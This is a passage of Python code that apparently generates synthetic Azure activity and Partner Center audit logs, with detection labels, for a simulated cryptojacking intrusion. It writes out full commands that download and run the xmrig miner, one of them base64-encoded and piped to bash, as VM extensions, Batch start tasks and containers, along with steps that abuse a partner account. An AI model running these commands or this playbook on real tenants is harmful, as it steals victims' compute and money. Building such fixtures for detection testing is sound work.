                        [{"namespace": "Microsoft.Network", "resourceTypes": [
                            {"resourceType": "virtualNetworks", "locations": [r[1] for r in regions]},
                            {"resourceType": "networkInterfaces",
                             "locations": [r[1] for r in regions]}]},
                         {"namespace": "Microsoft.Compute", "resourceTypes": [
                             {"resourceType": "disks", "locations": [r[1] for r in regions]},
                             {"resourceType": "virtualMachines",
                              "locations": [r[1] for r in regions]}]}]))
    creates(dep, "medium", indicators=["multi-region"], details={"location": "eastus"})
    dep_lower = dep_ml.lower()
    vms = {}
    vm_done = {"eus": 331_402, "weu": 402_115, "sea": 566_730}
    for i, (short, loc, size, prefix) in enumerate(regions):
        base = plus_ms(t, 4_120 + i * 7_311)
        vnet = res_id(S1, "rg-ml-train", f"Microsoft.Network/virtualNetworks/vnet-gpu-{short}")
        o = operation(f"ml-vnet-{short}", P, vnet, "Microsoft.Network/virtualNetworks/write", base,
                      SYNC_CREATE(2_811), corr=corr_ml, req=vnet_request(loc, prefix))
        creates(o, "medium", deployment=dep_lower, details={"location": loc})
        nic = res_id(S1, "rg-ml-train", f"Microsoft.Network/networkInterfaces/gpu-train-{short}-01-nic")
        o = operation(f"ml-nic-{short}", P, nic, "Microsoft.Network/networkInterfaces/write",
                      plus_ms(base, 3_904), SYNC_CREATE(1_107), corr=corr_ml,
                      req=nic_request(loc, vnet + "/subnets/default"))
        creates(o, "medium", deployment=dep_lower, details={"location": loc})
        disk = res_id(S1, "rg-ml-train", f"Microsoft.Compute/disks/gpu-train-{short}-01-data")
        o = operation(f"ml-disk-{short}", P, disk, "Microsoft.Compute/disks/write",
                      plus_ms(base, 4_560), ASYNC_ACCEPTED(489, 3_170), corr=corr_ml,
                      req={"location": loc, "sku": {"name": "Premium_LRS"},
                           "properties": {"creationData": {"createOption": "Empty"},
                                          "diskSizeGB": 1024}})
        creates(o, "medium", deployment=dep_lower, details={"location": loc})
        vm = res_id(S1, "rg-ml-train", f"Microsoft.Compute/virtualMachines/gpu-train-{short}-01")
        req = vm_request(loc, size, nic, disk, image=IMG_DSVM, priority="Spot")
        o = operation(f"ml-vm-{short}", P, vm, "Microsoft.Compute/virtualMachines/write",
                      plus_ms(base, 12_075), ASYNC_CREATE(2_114, vm_done[short]), corr=corr_ml,
                      req=req, resp=vm_response(vm, req, plus_ms(base, 13_900)))
        creates(o, "high", deployment=dep_lower,
                indicators=["gpu-sku", "spot-priority", "multi-region"],
                details={"location": loc, "vm_size": size, "priority": "Spot"})
        vms[short] = (vm, loc)

    # 08:40 Custom Script extensions start the miner (one command base64-encoded).
    inner = (f"curl -fsSL {MINER_TGZ} | tar xz -C /tmp && /tmp/xmrig-6.21.0/xmrig -o {POOL_B} "
             f"-u {WALLET} -p weu01 --donate-level 1 --cuda -B")
    encoded = base64.b64encode(inner.encode()).decode()
    ext_settings = {
        "eus": {"commandToExecute": f"bash -c 'cd /tmp && wget -q {MINER_TGZ} && tar xzf "
                                    f"xmrig-6.21.0-linux-static-x64.tar.gz && nohup ./xmrig-6.21.0/"
                                    f"xmrig -o {POOL_A} -u {WALLET} -p eus01 --donate-level 1 "
                                    f"--cuda -B'"},
        "weu": {"commandToExecute": f"bash -c 'echo {encoded} | base64 -d | bash'"},
        "sea": {"fileUris": [f"http://{MINER_HOST}/k/setup-gpu.sh"],
                "commandToExecute": f"bash setup-gpu.sh --url {POOL_A} --user {WALLET} "
                                    f"--pass sea01 --donate-level 1"},
    }
    ext_times = {"eus": ("2026-10-12T08:40:12.318", 95_420), "weu": ("2026-10-12T08:42:55.064", 88_913),
                 "sea": ("2026-10-12T08:45:31.790", 121_006)}
    for short in ("eus", "weu", "sea"):
        vm, loc = vms[short]
        ext = vm + "/extensions/CustomScript"
        req = ext_request(loc, "Microsoft.Azure.Extensions", "CustomScript", "2.1",
                          ext_settings[short])
        t0, done = ext_times[short]
        o = operation(f"ml-ext-{short}", P, ext, "Microsoft.Compute/virtualMachines/extensions/write",
                      t0, ASYNC_CREATE(1_702, done), req=req, resp=ext_response(ext, req))
        creates(o, "high", parent=vm.lower(),
                indicators=["miner-command"] + (["encoded-command"] if short == "weu" else []),
                details={"location": loc, "publisher": "Microsoft.Azure.Extensions",
                         "extension_type": "CustomScript"})

    # 08:59 a Spot scale set of 20 A10 GPUs; the miner is in the model's extension profile. The
    # Start record is written at 08:59 but arrives after 09:00, so it lands in the h=09 blob.
    vmss = res_id(S1, "rg-ml-train", "Microsoft.Compute/virtualMachineScaleSets/vmss-infer-weu")
    vmss_req = {
        "location": "westeurope",
        "sku": {"name": "Standard_NV36ads_A10_v5", "tier": "Standard", "capacity": 20},
        "properties": {
            "orchestrationMode": "Uniform", "upgradePolicy": {"mode": "Manual"},
            "virtualMachineProfile": {
                "priority": "Spot", "evictionPolicy": "Delete", "billingProfile": {"maxPrice": -1},
                "osProfile": {"computerNamePrefix": "infer", "adminUsername": "azureuser",
                              "linuxConfiguration": {"disablePasswordAuthentication": True,
                                                     "ssh": {"publicKeys": [{
                                                         "path": "/home/azureuser/.ssh/authorized_keys",
                                                         "keyData": ssh_key("infer")}]}}},
                "storageProfile": {"imageReference": IMG_DSVM,
                                   "osDisk": {"createOption": "FromImage",
                                              "managedDisk": {"storageAccountType": "StandardSSD_LRS"}}},
                "networkProfile": {"networkInterfaceConfigurations": [{
                    "name": "infer-nic", "properties": {"primary": True, "ipConfigurations": [{
                        "name": "ipconfig1", "properties": {"subnet": {
                            "id": res_id(S1, "rg-ml-train",
                                         "Microsoft.Network/virtualNetworks/vnet-gpu-weu")
                            + "/subnets/default"}}}]}}]},
                "extensionProfile": {"extensions": [{"name": "CustomScript", "properties": {
                    "publisher": "Microsoft.Azure.Extensions", "type": "CustomScript",
                    "typeHandlerVersion": "2.1", "settings": {
                        "commandToExecute": f"bash -c 'wget -qO- {MINER_TGZ} | tar xz -C /opt && "
                                            f"/opt/xmrig-6.21.0/xmrig -o {POOL_A} -u {WALLET} "
                                            f"-p vmss --donate-level 1 --cuda -B'"}}}]}}}}
    vmss_resp = {"name": "vmss-infer-weu", "id": vmss,
                 "type": "Microsoft.Compute/virtualMachineScaleSets", "location": "westeurope",
                 "sku": vmss_req["sku"],
                 "properties": {**json.loads(json.dumps(vmss_req["properties"])),
                                "provisioningState": "Creating",
                                "uniqueId": gid("vmss-unique", vmss)}}
    vmss_resp["properties"]["virtualMachineProfile"]["billingProfile"] = {"maxPrice": -1.0}
    o = operation("ml-vmss", P, vmss, "Microsoft.Compute/virtualMachineScaleSets/write",
                  "2026-10-12T08:59:50.512", ASYNC_CREATE(2_406, 381_496), req=vmss_req,
                  resp=vmss_resp)
    creates(o, "high", indicators=["gpu-sku", "spot-priority", "miner-command"],
            details={"location": "westeurope", "vm_size": "Standard_NV36ads_A10_v5",
                     "priority": "Spot", "capacity": 20})

    # 09:18 Batch account and a low-priority GPU pool whose start task runs the miner.
    batch = res_id(S1, "rg-ml-train", "Microsoft.Batch/batchAccounts/mltrainbatcheus")
    o = operation("ml-batch", P, batch, "Microsoft.Batch/batchAccounts/write",
                  "2026-10-12T09:18:22.147", ASYNC_ACCEPTED(1_104, 24_310),
                  req={"location": "eastus", "properties": {"poolAllocationMode": "BatchService",
                                                            "publicNetworkAccess": "Enabled"}})
    creates(o, "medium", details={"location": "eastus"})
    pool = batch + "/pools/gpu-lowpri-pool"
    o = operation("ml-pool", P, pool, "Microsoft.Batch/batchAccounts/pools/write",
                  "2026-10-12T09:31:05.660", SYNC_OK(3_488),
                  req={"properties": {
                      "vmSize": "standard_nc24ads_a100_v4",
                      "deploymentConfiguration": {"virtualMachineConfiguration": {
                          "imageReference": IMG_DSVM, "nodeAgentSkuId": "batch.node.ubuntu 22.04"}},
                      "scaleSettings": {"fixedScale": {"targetDedicatedNodes": 2,
                                                       "targetLowPriorityNodes": 8}},
                      "startTask": {
                          "commandLine": f"/bin/bash -c \"wget -q {MINER_TGZ} -O /tmp/x.tgz && "
                                         f"tar xzf /tmp/x.tgz -C /tmp && /tmp/xmrig-6.21.0/xmrig -o "
                                         f"{POOL_A} -u {WALLET} -p batch --donate-level 1 --cuda\"",
                          "userIdentity": {"autoUser": {"scope": "Pool", "elevationLevel": "Admin"}},
                          "maxTaskRetryCount": 3, "waitForSuccess": False}}})
    creates(o, "high", parent=batch.lower(), indicators=["gpu-sku", "spot-priority", "miner-command"],
            details={"location": "eastus", "vm_size": "standard_nc24ads_a100_v4",
                     "target_dedicated_nodes": 2, "target_low_priority_nodes": 8})

    # 09:44 a container group running a miner image with a GPU.
    aci = res_id(S1, "rg-ml-train", "Microsoft.ContainerInstance/containerGroups/aci-ml-infer")
    aci_req = {"location": "eastus", "properties": {
        "osType": "Linux", "restartPolicy": "Always", "sku": "Standard",
        "containers": [{"name": "infer", "properties": {
            "image": "docker.io/cryptodev0x/xmrig:latest",
            "command": ["xmrig", "-o", POOL_A, "-u", WALLET, "-p", "aci01", "--donate-level", "1",
                        "--cuda"],
            "resources": {"requests": {"cpu": 4, "memoryInGB": 16,
                                       "gpu": {"count": 1, "sku": "V100"}}}}}]}}
    aci_resp = {"id": aci, "name": "aci-ml-infer",
                "type": "Microsoft.ContainerInstance/containerGroups", "location": "eastus",
                "properties": {**json.loads(json.dumps(aci_req["properties"])),
                               "provisioningState": "Pending"}}
    o = operation("ml-aci", P, aci, "Microsoft.ContainerInstance/containerGroups/write",
                  "2026-10-12T09:44:37.391", SYNC_CREATE(6_214), req=aci_req, resp=aci_resp)
    creates(o, "high", indicators=["gpu-sku", "miner-image", "miner-command"],
            details={"location": "eastus", "image": "docker.io/cryptodev0x/xmrig:latest"})

    # ---- Concurrent ordinary work, 2026-10-13 (S2).
    st2 = res_id(S2, "rg-web-dev", "Microsoft.Storage/storageAccounts/stwebdevlogs02")
    o = operation("web-st2", U_DEVOPS, st2, "Microsoft.Storage/storageAccounts/write",
                  "2026-10-13T11:20:14.772", ASYNC_ACCEPTED(1_020, 19_804),
                  req={"sku": {"name": "Standard_LRS"}, "kind": "StorageV2",
                       "location": "westeurope",
                       "properties": {"minimumTlsVersion": "TLS1_2", "allowBlobPublicAccess": False,
                                      "supportsHttpsTrafficOnly": True}})
    creates(o, "low", details={"location": "westeurope"})

    # ---- 2026-10-14 clean-up by the service principal.
    for i, short in enumerate(("eus", "weu", "sea")):
        vm, _ = vms[short]
        o = operation(f"del-vm-{short}", P, vm, "Microsoft.Compute/virtualMachines/delete",
                      plus_ms(at("2026-10-14T06:10:03.227"), i * 6_107),
                      ASYNC_ACCEPTED(301, 45_218 + i * 3_331, ""), method="DELETE")
        deletes(o)
    o = operation("del-vmss", P, vmss, "Microsoft.Compute/virtualMachineScaleSets/delete",
                  "2026-10-14T06:12:40.015", ASYNC_ACCEPTED(388, 124_502, ""), method="DELETE")
    deletes(o)
    o = operation("del-pool", P, pool, "Microsoft.Batch/batchAccounts/pools/delete",
                  "2026-10-14T06:15:02.700", ASYNC_ACCEPTED(944, 30_117), method="DELETE")
    deletes(o)
    o = operation("del-aci", P, aci, "Microsoft.ContainerInstance/containerGroups/delete",
                  "2026-10-14T06:16:30.118", SYNC_OK(4_090), method="DELETE")
    deletes(o)
    return ra_op


# --------------------------------------------------------------------------------------------
# Per-phase vocabulary of each shape
# --------------------------------------------------------------------------------------------

REST_STATUS = {"Start": "Started", "Accept": "Accepted", "Success": "Succeeded", "Failure": "Failed"}


def substatus_localized(code):
    return f"{code} (HTTP Status Code: {HTTP_CODES[code]})" if code else ""


def result_signature(ev):
    return f"{REST_STATUS[ev['phase']]}.{ev['code']}"


def level_of(ev):
    return "Error" if ev["phase"] == "Failure" else "Informational"


def ev_rid(ev):
    return ev["rid"] if ev["phase"] == "Start" else later_phase_rid(ev["rid"])


def hierarchy(sub):
    return f"{TENANT}/{MG}/{sub}"


def base_properties(ev):
    """The `properties` map shared by exports and REST (bodies as JSON strings)."""
    p = {}
    if ev["req"] is not None:
        p["requestbody"] = cjson(ev["req"])
    if ev["phase"] != "Start":
        if ev["code"]:
            p["statusCode"] = ev["code"]
        p["serviceRequestId"] = ev["srid"]
        if ev["status_msg"] is not None:
            p["statusMessage"] = cjson(ev["status_msg"])
        if ev["resp"] is not None:
            p["responseBody"] = cjson(ev["resp"])
    sub = rid_info(ev["rid"])[0]
    p.update({"eventCategory": "Administrative", "entity": ev_rid(ev), "message": ev["op"],
              "hierarchy": hierarchy(sub)})
    return p


# ---- (a)/(d) diagnostic-settings export records ----


def export_record(ev, eventhub=False):
    rec = {}
    if eventhub:
        rec.update({"RoleLocation": "East US", "Stamp": "EUS2-FDWeb-07",
                    "ReleaseVersion": "6.2026.40.1+a1b2c3d.release_2026w40"})
    rec.update({
        "time": iso7(ev["time"]), "resourceId": ev["rid"].upper(), "operationName": ev["op"].upper(),
        "category": "Administrative", "resultType": ev["phase"],
        "resultSignature": result_signature(ev), "durationMs": ev["duration"],
        "callerIpAddress": ev["who"].ip, "correlationId": ev["corr"],
        "identity": {"authorization": {"scope": ev["rid"], "action": ev["op"],
                                       "evidence": ev["who"].evidence()},
                     "claims": ev["who"].claims(ev["time"])},
        "level": "Error" if ev["phase"] == "Failure" else "Information", "location": "global",
        "properties": base_properties(ev), "tenantId": TENANT})
    return rec


# ---- (b) REST / az CLI EventData ----


def rest_record(ev):
    rid = ev_rid(ev)
    sub, rg, ns, rtype, _ = rid_info(ev["rid"])
    props = base_properties(ev)
    if props.get("serviceRequestId") is None:
        props.pop("serviceRequestId", None)
    return {
        "authorization": {"action": ev["op"], "scope": ev["rid"]},
        "caller": ev["who"].caller,
        "channels": "Operation",
        "claims": ev["who"].claims(ev["time"]),
        "correlationId": ev["corr"],
        "description": "",
        "eventDataId": ev["edid"],
        "eventName": {"value": "BeginRequest", "localizedValue": "Begin request"}
        if ev["phase"] == "Start" else {"value": "EndRequest", "localizedValue": "End request"},
        "category": {"value": "Administrative", "localizedValue": "Administrative"},
        "eventTimestamp": iso7(ev["time"]),
        "httpRequest": {"clientRequestId": ev["crid"], "clientIpAddress": ev["who"].ip,
                        "method": ev["method"]},
        "id": f"{rid}/events/{ev['edid']}/ticks/{ticks(ev['time'])}",
        "level": level_of(ev),
        "resourceGroupName": rg,
        "resourceProviderName": {"value": ns, "localizedValue": ns},
        "resourceId": rid,
        "resourceType": {"value": rtype, "localizedValue": rtype},
        "operationId": ev["opid"],
        "operationName": {"value": ev["op"], "localizedValue": FRIENDLY[ev["op"].lower()]},
        "properties": props,
        "status": {"value": REST_STATUS[ev["phase"]], "localizedValue": REST_STATUS[ev["phase"]]},
        "subStatus": {"value": ev["code"], "localizedValue": substatus_localized(ev["code"])},
        "submissionTimestamp": iso7(ev["sub_time"]),
        "subscriptionId": sub,
        "tenantId": TENANT,
        "relatedEvents": [],
    }


# ---- Python SDK EventData.as_dict(), dumped with json.dumps(default=str) ----

_FREE_FORM = {"claims", "properties"}


def snake(name):
    return re.sub(r"(?<!^)(?=[A-Z])", "_", name).lower()


def sdk_record(ev):
    rest = rest_record(ev)
    rest.pop("relatedEvents")

    def conv(obj, top):
        if isinstance(obj, dict):
            return {snake(k): (v if (top and k in _FREE_FORM) else conv(v, False))
                    for k, v in obj.items()}
        return obj

    out = conv(rest, True)
    out["event_timestamp"] = str(ev["time"])  # datetime.__str__: 2026-10-12 08:03:11.123000+00:00
    out["submission_timestamp"] = str(ev["sub_time"])
    return out


# ---- (c) Log Analytics AzureActivity ----

LA_QUERY_COLUMNS = [
    ("TenantId", "string"), ("SourceSystem", "string"), ("CallerIpAddress", "string"),
    ("CategoryValue", "string"), ("CorrelationId", "string"), ("Authorization", "string"),
    ("Authorization_d", "dynamic"), ("Claims", "string"), ("Claims_d", "dynamic"),
    ("Level", "string"), ("OperationNameValue", "string"), ("Properties", "string"),
    ("Properties_d", "dynamic"), ("Caller", "string"), ("EventDataId", "string"),
    ("EventSubmissionTimestamp", "datetime"), ("HTTPRequest", "string"), ("OperationId", "string"),
    ("ResourceGroup", "string"), ("ResourceProviderValue", "string"),
    ("ActivityStatusValue", "string"), ("ActivitySubstatusValue", "string"),
    ("Hierarchy", "string"), ("TimeGenerated", "datetime"), ("SubscriptionId", "string"),
    ("OperationName", "string"), ("ActivityStatus", "string"), ("ActivitySubstatus", "string"),
    ("Category", "string"), ("ResourceId", "string"), ("ResourceProvider", "string"),
    ("Resource", "string"), ("Type", "string"), ("_ResourceId", "string"),
]

CSV_COLUMNS = [
    "$table", "TenantId", "SourceSystem", "CallerIpAddress", "CategoryValue", "CorrelationId",
    "Authorization", "Authorization_d", "Claims", "Claims_d", "Level", "OperationNameValue",
    "Properties", "Properties_d", "Caller", "EventDataId", "EventSubmissionTimestamp [UTC]",
    "HTTPRequest", "OperationId", "ResourceGroup", "ResourceProviderValue", "ActivityStatusValue",
    "ActivitySubstatusValue", "Hierarchy", "TimeGenerated [UTC]", "SubscriptionId", "OperationName",
    "ActivityStatus", "ActivitySubstatus", "Category", "ResourceId", "ResourceProvider", "Resource",
    "Type", "_ResourceId", "OperationVersion", "ResultType", "ResultSignature", "ResultDescription",
    "DurationMs", "Identity", "Location", "AdditionalDetails", "Id", "InitiatedBy",
    "LoggedByService", "Result",
]


def la_properties(ev, rich):
    """Properties of the AzureActivity row; `rich` adds the keys the portal export shows."""
    p = base_properties(ev)
    if p.get("serviceRequestId") is None and "serviceRequestId" in p:
        p["serviceRequestId"] = None
    if rich:
        sub, rg, ns, _, name = rid_info(ev["rid"])
        p.update({"caller": ev["who"].caller, "eventDataId": ev["edid"],
                  "eventSubmissionTimestamp": iso7(ev["sub_time"]),
                  "httpRequest": cjson({"clientIpAddress": ev["who"].ip}),
                  "resource": name.lower(), "resourceGroup": rg.upper(),
                  "resourceProviderValue": ns.upper(), "subscriptionId": sub.upper(),
                  "activityStatusValue": ev["phase"]})
        if ev["code"]:
            p["activitySubstatusValue"] = ev["code"]
    return p


def la_authorization(ev):
    return {"action": ev["op"], "scope": ev["rid"], "evidence": ev["who"].evidence()}


def la_query_row(ev, with_dynamic):
    """One row of the query API. Legacy columns are filled (as the query API returns them);
    the *_d columns are objects when `with_dynamic`, else null."""
    sub, rg, ns, _, name = rid_info(ev["rid"])
    props = la_properties(ev, rich=False)
    auth = la_authorization(ev)
    claims = ev["who"].claims(ev["time"])
    values = {
        "TenantId": WORKSPACE, "SourceSystem": "Azure", "CallerIpAddress": ev["who"].ip,
        "CategoryValue": "Administrative", "CorrelationId": ev["corr"],
        "Authorization": cjson(auth), "Authorization_d": auth if with_dynamic else None,
        "Claims": cjson(claims), "Claims_d": claims if with_dynamic else None,
        "Level": level_of(ev),
        "OperationNameValue": ev["op"].upper() if with_dynamic else ev["op"],
        "Properties": cjson(props), "Properties_d": None,
        "Caller": ev["who"].caller, "EventDataId": ev["edid"],
        "EventSubmissionTimestamp": iso3(ev["sub_time"]),
        "HTTPRequest": cjson({"clientRequestId": ev["crid"], "clientIpAddress": ev["who"].ip,
                              "method": ev["method"]}),
        "OperationId": ev["opid"], "ResourceGroup": rg, "ResourceProviderValue": ns.upper(),
        "ActivityStatusValue": ev["phase"], "ActivitySubstatusValue": ev["code"],
        "Hierarchy": hierarchy(sub), "TimeGenerated": iso3(ev["time"]), "SubscriptionId": sub,
        "OperationName": FRIENDLY[ev["op"].lower()], "ActivityStatus": REST_STATUS[ev["phase"]],
        "ActivitySubstatus": substatus_localized(ev["code"]), "Category": "Administrative",
        "ResourceId": ev_rid(ev), "ResourceProvider": ns, "Resource": name,
        "Type": "AzureActivity", "_ResourceId": ev["rid"].lower(),
    }
    return [values[c] for c, _ in LA_QUERY_COLUMNS]


def pretty_crlf(obj):
    return json.dumps(obj, indent=2, ensure_ascii=False).replace("\n", "\r\n")


def la_csv_row(ev):
    """One row of the portal CSV export: current columns filled, legacy columns empty (as in
    azureActivity_adele.csv), JSON cells pretty-printed with CRLF line breaks."""
    sub, rg, ns, _, _ = rid_info(ev["rid"])
    props = la_properties(ev, rich=True)
    auth = la_authorization(ev)
    claims = ev["who"].claims(ev["time"])
    values = {
        "$table": "AzureActivity", "TenantId": WORKSPACE, "SourceSystem": "Azure",
        "CallerIpAddress": ev["who"].ip, "CategoryValue": "Administrative",
        "CorrelationId": ev["corr"], "Authorization": pretty_crlf(auth),
        "Authorization_d": cjson(auth), "Claims": pretty_crlf(claims), "Claims_d": cjson(claims),
        "Level": level_of(ev), "OperationNameValue": ev["op"].upper(),
        "Properties": pretty_crlf(props), "Properties_d": cjson(props),
        "Caller": ev["who"].caller, "EventDataId": ev["edid"],
        "EventSubmissionTimestamp [UTC]": us_locale(ev["sub_time"]),
        "HTTPRequest": cjson({"clientIpAddress": ev["who"].ip}), "OperationId": ev["opid"],
        "ResourceGroup": rg.upper(), "ResourceProviderValue": ns.upper(),
        "ActivityStatusValue": ev["phase"], "ActivitySubstatusValue": ev["code"],
        "Hierarchy": hierarchy(sub), "TimeGenerated [UTC]": us_locale(ev["time"]),
        "SubscriptionId": sub, "Type": "AzureActivity", "_ResourceId": ev["rid"].lower(),
    }
    return [values.get(c, "") for c in CSV_COLUMNS]


# --------------------------------------------------------------------------------------------
# Partner Center audit records
# --------------------------------------------------------------------------------------------

PC_ADMIN = f"admin@{PARTNER_DOMAIN}"
PC_NEWUSER = f"svc.billing@{PARTNER_DOMAIN}"
PC_WEB_APP = gid("appid", "partner-center-web")
ORDER_S1 = gid("order", "s1")
ORDER_S2 = gid("order", "s2")
OFFER_AZURE_PLAN = "DZH318Z0BPS6:0001:DZH318Z0BLPV"


def pc_time(text):
    """Partner Center operationDate: 7 fraction digits, Z. `text` has 7 digits."""
    return text


def pc_record(op_type, res_type, date7, upn, *, customer=True, new=None, old=None, data=(),
              app=PC_WEB_APP, status="succeeded"):
    t = dt.datetime.strptime(date7[:26], "%Y-%m-%dT%H:%M:%S.%f").replace(tzinfo=UTC)
    rec = {"id": f"{PARTNER}_{TENANT if customer else PARTNER}_{op_type.replace('_', '')}_{ticks(t)}",
           "partnerId": PARTNER, "participants": [PARTNER]}
    if customer:
        rec.update({"customerId": TENANT, "customerName": CUSTOMER_NAME})
    rec.update({"userPrincipalName": upn})
    if app is not None:
        rec["applicationId"] = app
    rec["resourceType"] = res_type
    if old is not None:
        rec["resourceOldValue"] = cjson(old)
    if new is not None:
        rec["resourceNewValue"] = cjson(new)
    rec.update({"operationType": op_type, "originalCorrelationId": gid("pc-corr", op_type, date7),
                "operationDate": date7, "operationStatus": status,
                "customizedData": [{"key": k, "value": v} for k, v in data],
                "attributes": {"objectType": "AuditRecord"}})
    return rec


def order_value(order_id, sub, friendly, created_local):
    links = lambda uri: {"Uri": uri, "Method": "GET", "Body": None, "Headers": []}  # noqa: E731
    return {"Id": order_id, "ReferenceCustomerId": TENANT, "BillingCycle": "monthly",
            "CurrencyCode": "EUR", "CurrencySymbol": "\u20ac",
            "LineItems": [{"LineItemNumber": 0, "ProvisioningContext": None,
                           "OfferId": OFFER_AZURE_PLAN, "SubscriptionId": sub,
                           "ParentSubscriptionId": None, "TermDuration": None,
                           "TransactionType": "New", "FriendlyName": friendly, "Quantity": 1,
                           "Pricing": None, "PartnerIdOnRecord": None, "RenewsTo": None,
                           "Links": {"Subscription": links(
                               f"/customers/{TENANT}/subscriptions/{sub}")}}],
            "CreationDate": created_local, "Status": "completed", "TransactionType": "UserPurchase",
            "Links": {"Self": links(f"/customers/{TENANT}/orders/{order_id}")},
            "Attributes": {"ObjectType": "Order"}}


def order_data(order_id, sub, friendly):
    return [("OrderId", order_id), ("BillingCycle", "Monthly"), ("OfferId-0", OFFER_AZURE_PLAN),
            ("SubscriptionId-0", sub), ("SubscriptionName-0", friendly), ("Quantity-0", "1"),
            ("PartnerOnRecord-0", None)]


def partner_records():
    s2_upper = S2.upper()  # Partner Center writes some GUIDs upper-case
    recs = [
        pc_record("add_customer", "customer", "2026-09-01T09:12:44.8812736Z", PC_ADMIN,
                  new={"Id": TENANT, "CommerceId": gid("commerce", "fabrikam"),
                       "CompanyProfile": {"TenantId": TENANT, "Domain": CUSTOMER_DOMAIN,
                                          "CompanyName": CUSTOMER_NAME,
                                          "Attributes": {"ObjectType": "CustomerCompanyProfile"}},
                       "BillingProfile": {"Id": gid("billing-profile", "fabrikam"),
                                          "FirstName": "Lena", "LastName": "Vogt",
                                          "Email": "lena.vogt@fabrikam-robotics.example",
                                          "Culture": "de-DE", "Language": "de",
                                          "CompanyName": CUSTOMER_NAME,
                                          "DefaultAddress": {"Country": "DE", "City": "Stuttgart",
                                                             "PostalCode": "70173",
                                                             "AddressLine1": "Industriestrasse 5"},
                                          "Attributes": {"ObjectType": "CustomerBillingProfile"}},
                       "RelationshipToPartner": "reseller", "AllowDelegatedAccess": True,
                       "UserCredentials": {"userName": "admin", "password": ""},
                       "Attributes": {"ObjectType": "Customer"}},
                  data=[("PrimaryDomainName", CUSTOMER_DOMAIN), ("Relationship", "Reseller")]),
        pc_record("create_order", "order", "2026-09-01T09:31:05.1934822Z", PC_ADMIN,
                  new=order_value(ORDER_S1, S1, "Fabrikam Production",
                                  "2026-09-01T02:31:01.1200000-07:00"),
                  data=order_data(ORDER_S1, S1, "Fabrikam Production")),
        pc_record("create_order", "order", "2026-09-02T10:05:17.5531027Z", PC_ADMIN,
                  new=order_value(ORDER_S2, s2_upper, "Fabrikam Dev/Test",
                                  "2026-09-02T03:05:12.4410000-07:00"),
                  data=order_data(ORDER_S2, s2_upper, "Fabrikam Dev/Test")),
        pc_record("update_customer_spending_budget", "customer", "2026-09-10T15:44:02.3319470Z",
                  PC_ADMIN, old={"Amount": 2000.0, "Attributes": {"ObjectType": "SpendingBudget"}},
                  new={"Amount": 5000.0, "Attributes": {"ObjectType": "SpendingBudget"}},
                  data=[("SpendingBudget", "5000")]),
        pc_record("create_partner_user", "partner_user", "2026-10-05T18:21:39.0043218Z", PC_ADMIN,
                  customer=False,
                  new={"Id": gid("partner-user", "svc.billing"), "UserPrincipalName": PC_NEWUSER,
                       "DisplayName": "Billing Service", "Roles": ["AdminAgent", "BillingAdmin"],
                       "Attributes": {"ObjectType": "PartnerUser"}},
                  data=[("PartnerUserId", gid("partner-user", "svc.billing")),
                        ("UserPrincipalName", PC_NEWUSER), ("Roles", "AdminAgent,BillingAdmin")]),
        pc_record("reset_customer_user_password", "customer_user", "2026-10-12T07:31:12.6619304Z",
                  PC_NEWUSER,
                  new={"Id": U_COMPROMISED.oid, "UserPrincipalName": U_COMPROMISED.upn,
                       "PasswordProfile": {"ForceChangePassword": False, "Password": "******"},
                       "Attributes": {"ObjectType": "CustomerUser"}},
                  data=[("CustomerUserId", U_COMPROMISED.oid),
                        ("UserPrincipalName", U_COMPROMISED.upn)]),
        pc_record("add_application_credential", "application_credential",
                  "2026-10-12T07:39:55.2087140Z", PC_NEWUSER,
                  new={"ApplicationId": SP_ATTACKER.appid, "KeyId": gid("key", "sp-secret"),
                       "Type": "Password", "StartDate": "2026-10-12T07:39:55Z",
                       "EndDate": "2028-10-12T07:39:55Z",
                       "Attributes": {"ObjectType": "ApplicationCredential"}},
                  data=[("ApplicationId", SP_ATTACKER.appid), ("KeyId", gid("key", "sp-secret")),
                        ("CredentialType", "Password")]),
        pc_record("increase_spending_limit", "spending_limit", "2026-10-12T08:26:48.7735519Z",
                  PC_NEWUSER, old={"SubscriptionId": S1, "Limit": 5000.0},
                  new={"SubscriptionId": S1, "Limit": 50000.0},
                  data=[("SubscriptionId", S1), ("OldLimit", "5000"), ("NewLimit", "50000")]),
        pc_record("update_customer_spending_budget", "customer", "2026-10-12T08:27:30.1180442Z",
                  PC_NEWUSER, old={"Amount": 5000.0, "Attributes": {"ObjectType": "SpendingBudget"}},
                  new={"Amount": 60000.0, "Attributes": {"ObjectType": "SpendingBudget"}},
                  data=[("SpendingBudget", "60000")]),
    ]
    return recs


def pc_expected(rec):
    subs = []
    for d in rec["customizedData"]:
        if re.fullmatch(r"SubscriptionId(-\d+)?", d["key"]) and d["value"]:
            if d["value"].lower() not in subs:
                subs.append(d["value"].lower())
    new = json.loads(rec.get("resourceNewValue", "{}"))
    for li in new.get("LineItems", []):
        if li.get("SubscriptionId") and li["SubscriptionId"].lower() not in subs:
            subs.append(li["SubscriptionId"].lower())
    order = next((d["value"].lower() for d in rec["customizedData"] if d["key"] == "OrderId"), None)
    t = dt.datetime.strptime(rec["operationDate"][:26], "%Y-%m-%dT%H:%M:%S.%f")
    return {"time": t.strftime("%Y-%m-%dT%H:%M:%S.%fZ"), "operation_type": rec["operationType"],
            "resource_type": rec["resourceType"], "status": rec["operationStatus"],
            "user_principal_name": rec["userPrincipalName"],
            "customer_id": rec.get("customerId"), "partner_id": rec["partnerId"],
            "order_id": order, "subscription_ids": subs, "record_id": rec["id"]}
